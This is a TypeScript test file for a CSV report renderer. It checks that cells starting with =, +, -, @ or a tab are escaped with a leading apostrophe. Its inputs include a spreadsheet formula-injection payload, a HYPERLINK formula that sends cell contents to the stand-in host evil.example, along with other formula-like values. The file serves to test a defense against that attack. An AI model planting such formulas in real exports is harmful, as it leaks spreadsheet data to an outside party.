import t from 'tap';
import { renderCsv } from '../../../hub/reports/csvReport.js';
import { section, type ReportDocument } from '../../../hub/reports/reportDocument.js';

const doc = (rows: Array<Array<string | number>>, bars: Array<{ label: string; value: number; shown?: string }> = []): ReportDocument => ({
  kind: 'monthly', title: 'test', month: '2026-11', clause: 'VII.E',
  sections: [section('Searches', { tables: [{ title: 'Searches', columns: ['user', 'searches'], rows, empty: '' }], charts: [{ title: 'By purpose', bars }] })],
});

t.test('text a spreadsheet would run as a formula is written with a leading apostrophe; numbers and plain text are unchanged', async (t) => {
  const csv = renderCsv(doc([
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', 3], ['+1-555-0100', 1], ['-2+3', -2], ['@SUM(A1:A9)', 0], ['\t=cmd', 1], ['Ofc. Garcia', 12],
  ], [{ label: '=1+1', value: 4 }]));
  const values = csv.trim().split('\r\n').slice(1).map((line) => line);
  t.same(values, [
    'Searches,Searches,1,user,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"', 'Searches,Searches,1,searches,3',
    'Searches,Searches,2,user,\'+1-555-0100', 'Searches,Searches,2,searches,1',
    'Searches,Searches,3,user,\'-2+3', 'Searches,Searches,3,searches,-2',
    'Searches,Searches,4,user,\'@SUM(A1:A9)', 'Searches,Searches,4,searches,0',
    'Searches,Searches,5,user,\'\t=cmd', 'Searches,Searches,5,searches,1',
    'Searches,Searches,6,user,Ofc. Garcia', 'Searches,Searches,6,searches,12',
    'Searches,By purpose,1,\'=1+1,4',
  ]);
});
